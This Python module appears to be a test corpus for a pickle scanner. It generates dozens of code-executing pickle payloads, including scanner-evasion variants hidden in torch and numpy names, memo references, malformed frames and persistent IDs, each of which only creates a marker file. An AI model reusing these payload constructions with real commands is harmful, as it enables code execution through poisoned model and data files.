"""Pickles that call code: each way in which one can, with a mark of its own that shows it ran.

A way gives the bytes of a pickle whose run makes the file `mark`. The first ones are written by
Python itself, the others by hand, since Python writes no such thing.
"""

import builtins
import io
import os
import pickle
import struct
import subprocess

_PROTO = b"\x80\x02"


def _text(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _name(module, name):
    return f"c{module}\n{name}\n".encode()


def _called(module, name, *texts):
    """REDUCE of a global with texts."""
    return _name(module, name) + b"(" + b"".join(map(_text, texts)) + b"tR"


class _Reduced:
    def __init__(self, *parts):
        self.parts = parts

    def __reduce__(self):
        return self.parts


def _written(protocol, *parts):
    return pickle.dumps(_Reduced(*parts), protocol=protocol)


def _made(mark):
    """A sentence of Python that makes the mark."""
    return f"open({str(mark)!r}, 'w').close()"


def _stacked(module, name, argument):
    """STACK_GLOBAL, whose names are texts of the stack."""
    return b"\x80\x04" + _text(module) + _text(name) + b"\x93" + _text(argument) + b"\x85R."


def _short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _memoised(module, name, argument):
    """STACK_GLOBAL, whose names were said long before and come from the memo."""
    said = _text(module) + b"q\x010" + _text(name) + b"q\x020"
    other = _text("collections") + b"0" + _text("OrderedDict") + b"0"
    return b"\x80\x04" + said + other + b"h\x01h\x02\x93" + _text(argument) + b"\x85R."


def _framed(body):
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def _built(mark):
    """BUILD with a state: `__setstate__` of an object is code of its own."""
    state = b"}" + _text("__setstate__") + _name("os", "system") + b"s"
    maker = _name("collections", "OrderedDict") + b")R"
    return _PROTO + maker + state + b"b" + _text(f"touch {mark}") + b"b."


def _slots(mark):
    """BUILD with a state of slots, which are set by name."""
    slots = b"N}" + _text("__class__") + _name("builtins", "eval") + b"s\x86"
    return (
        _PROTO
        + _name("collections", "OrderedDict")
        + b")R"
        + slots
        + b"b"
        + _text(_made(mark))
        + b"\x85R."
    )


def _extended(code, mark):
    """A class by its number in the registry of extensions, which the pickle fills first."""
    filled = b"ccopyreg\nadd_extension\n(" + _text("os") + _text("system") + b"K\x07tR0"
    return _PROTO + filled + code + _text(f"touch {mark}") + b"\x85R."


def ways(mark):
    """Bytes of pickles by name; each would make the file `mark`.

    Args:
        mark: Path without blanks.
    """
    shell, python = f"touch {mark}", _made(mark)
    found = {}
    for protocol in range(6):
        found[f"reduce os.system, protocol {protocol}"] = _written(protocol, os.system, (shell,))
        found[f"reduce exec, protocol {protocol}"] = _written(protocol, builtins.exec, (python,))
    found |= {
        "subprocess.Popen": _written(2, subprocess.Popen, (("touch", str(mark)),)),
        "subprocess.check_output": _written(4, subprocess.check_output, (["touch", str(mark)],)),
        "os.mkdir": _written(2, os.mkdir, (str(mark),)),
        "builtins.open": _written(2, builtins.open, (str(mark), "w")),
        "io.FileIO": _written(2, io.FileIO, (str(mark), "w")),
        "eval": _written(3, builtins.eval, (python,)),
        "posix.system": _PROTO + _called("posix", "system", shell) + b".",
        "nt.system": _PROTO + _called("nt", "system", shell) + b".",
        "os.popen": _PROTO + _called("os", "popen", shell) + b".",
        "pty.spawn": _PROTO + _called("pty", "spawn", shell) + b".",
        "commands of Python 2": _PROTO + _called("commands", "getoutput", shell) + b".",
        "__builtin__ of Python 2": _PROTO + _called("__builtin__", "eval", python) + b".",
        "runpy": _PROTO + _called("runpy", "run_path", str(mark.with_suffix(".py"))) + b".",
        "code.InteractiveInterpreter": _PROTO
        + _name("code", "InteractiveInterpreter")
        + b")R"
        + b"}b.",
        "timeit": _PROTO + _called("timeit", "timeit", python) + b".",
        "cProfile.run": _PROTO + _called("cProfile", "run", python) + b".",
        "pdb.run": _PROTO + _called("pdb", "run", python) + b".",
        "doctest": _PROTO + _called("doctest", "debug_script", python) + b".",
        "idlelib": _PROTO + _called("idlelib.run", "exec", python) + b".",
        "pathlib.Path.touch": _PROTO
        + _name("pathlib", "Path.touch")
        + _called("pathlib", "Path", str(mark))
        + b"\x85R.",
        "shutil.copy": _PROTO + _called("shutil", "copyfile", "/etc/hostname", str(mark)) + b".",
        "logging.FileHandler": _PROTO + _called("logging", "FileHandler", str(mark)) + b".",
        "getattr of a module": _PROTO
        + _name("builtins", "getattr")
        + b"("
        + _called("importlib", "import_module", "os")
        + _text("system")
        + b"tR"
        + _text(shell)
        + b"\x85R.",
        "__import__ and getattr": _PROTO
        + _name("builtins", "getattr")
        + b"("
        + _called("builtins", "__import__", "os")
        + _text("system")
        + b"tR"
        + _text(shell)
        + b"\x85R.",
        "operator.attrgetter": _PROTO
        + _called("operator", "attrgetter", "system")
        + _called("builtins", "__import__", "os")
        + b"\x85R"
        + _text(shell)
        + b"\x85R.",
        "operator.methodcaller": _PROTO
        + _called("operator", "methodcaller", "system", shell)
        + _called("builtins", "__import__", "os")
        + b"\x85R.",
        "functools.partial": _PROTO
        + _name("functools", "partial")
        + b"("
        + _name("os", "system")
        + _text(shell)
        + b"tR)R.",
        "functools.reduce": _PROTO
        + _name("functools", "reduce")
        + b"("
        + _name("os", "system")
        + b"("
        + _text(shell)
        + b"ltR.",
        "map": _PROTO
        + _name("builtins", "list")
        + b"("
        + _name("builtins", "map")
        + b"("
        + _name("os", "system")
        + b"("
        + _text(shell)
        + b"ltRtR.",
        "new object": _PROTO
        + _name("subprocess", "Popen")
        + b"(("
        + _text("touch")
        + _text(str(mark))
        + b"lt\x81.",
        "new object with names": b"\x80\x04"
        + _name("subprocess", "Popen")
        + b"(("
        + _text("touch")
        + _text(str(mark))
        + b"lt}\x92.",
        "INST": b"(S'" + shell.encode() + b"'\nios\nsystem\n.",
        "INST with eval": b'(S"' + python.encode() + b'"\nibuiltins\neval\n.',
        "OBJ": _PROTO + b"(" + _name("os", "system") + _text(shell) + b"o.",
        "names of the stack": _stacked("os", "system", shell),
        "names of the stack, short": b"\x80\x04"
        + _short("posix")
        + _short("system")
        + b"\x93"
        + _text(shell)
        + b"\x85R.",
        "a name with dots": _stacked("torch", "serialization.os.system", shell),
        "a name with dots of numpy": _stacked("numpy", "testing.os.system", shell),
        "a name with dots, old": _PROTO + _called("torch", "serialization.os.system", shell) + b".",
        "an alias inside torch": _PROTO + _called("torch.serialization", "os.system", shell) + b".",
        "torch's sys.modules": _PROTO + _called("torch._utils", "sys.modules.get", "os") + b".",
        "names out of the memo": _memoised("os", "system", shell),
        "names in bytes": b"\x80\x04" + b"C\x02osC\x06system\x93" + _text(shell) + b"\x85R.",
        "in a frame": _framed(_text("os") + _text("system") + b"\x93" + _text(shell) + b"\x85R."),
        "in a frame of a wrong size": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f"
        + _called("os", "system", shell)
        + b".",
        "after STOP": _PROTO + b"}." + _called("os", "system", shell) + b".",
        "before a break": _PROTO + _called("os", "system", shell) + b"\xff\xff",
        "behind a text of it": _PROTO
        + _text("cos\nsystem\n")
        + b"0"
        + _called("os", "system", shell)
        + b".",
        "__setstate__": _built(mark),
        "state of slots": _slots(mark),
        "state of a module": _PROTO
        + _called("importlib", "import_module", "os")
        + b"}"
        + _text("x")
        + _text("y")
        + b"sb.",
        "EXT1": _extended(b"\x82\x07", mark),
        "EXT2": _extended(b"\x83\x07\x00", mark),
        "EXT4": _extended(b"\x84\x07\x00\x00\x00", mark),
        "PERSID": b"P" + shell.encode() + b"\n.",
        "BINPERSID that is no storage": _PROTO
        + b"("
        + _text("module")
        + _name("os", "system")
        + _text(shell)
        + b"tQ.",
        "BINPERSID with a called storage": _PROTO
        + b"("
        + _text("storage")
        + _called("os", "system", shell)
        + _text("0")
        + _text("cpu")
        + b"K\x01tQ.",
        "a pickle inside": _PROTO
        + _name("pickle", "loads")
        + b"C"
        + bytes([len(_PROTO + _called("os", "system", shell)) + 1])
        + _PROTO
        + _called("os", "system", shell)
        + b"."
        + b"\x85R.",
        "torch.load inside": _PROTO
        + _called("torch", "load", str(mark.with_suffix(".inner")))
        + b".",
        "torch.storage._load_from_bytes": _PROTO
        + _name("torch.storage", "_load_from_bytes")
        + b"C"
        + bytes([len(_called("os", "system", shell)) + 1])
        + _called("os", "system", shell)
        + b"."
        + b"\x85R.",
        "numpy.load inside": _PROTO
        + _called("numpy", "load", str(mark.with_suffix(".npy")))
        + b".",
        "joblib": _PROTO + _called("joblib", "load", str(mark.with_suffix(".inner"))) + b".",
        "numpy's fromfile hook": _PROTO
        + _called("numpy.testing._private.utils", "runstring", python)
        + b".",
        "torch.hub": _PROTO + _called("torch.hub", "load", str(mark.parent), "x") + b".",
        "torch.jit": _PROTO + _called("torch.jit", "load", str(mark.with_suffix(".inner"))) + b".",
        "a subclass of OrderedDict": _PROTO
        + _name("argparse", "Namespace")
        + b")R"
        + b"}"
        + _text("x")
        + _called("os", "system", shell)
        + b"sb.",
        "a stand-in that is called": _PROTO
        + _name("typing", "Any")
        + _called("os", "system", shell)
        + b"\x85R.",
        "a key of a dictionary": _PROTO + b"}" + _called("os", "system", shell) + b"K\x01s.",
        "deep inside": _PROTO
        + b"(" * 50
        + b"]"
        + _called("os", "system", shell)
        + b"a"
        + b"t" * 50
        + b".",
        "_codecs.encode with a codec": _PROTO
        + _called("_codecs", "lookup", "x")
        + b"0"
        + _called("_codecs", "register", python)
        + b".",
        "sys.setprofile": _PROTO + _name("sys", "setprofile") + _name("os", "system") + b"\x85R.",
        "threading.Timer": _PROTO
        + _name("threading", "Timer.start")
        + _name("threading", "Timer")
        + b"(K\x00"
        + _name("os", "system")
        + b"("
        + _text(shell)
        + b"ltR\x85R.",
        "weakref.finalize": _PROTO
        + _name("weakref", "finalize")
        + b"("
        + _name("collections", "UserDict")
        + b")R"
        + _name("os", "system")
        + _text(shell)
        + b"tR.",
        "atexit": _PROTO
        + _name("atexit", "register")
        + b"("
        + _name("os", "system")
        + _text(shell)
        + b"tR.",
    }
    return found
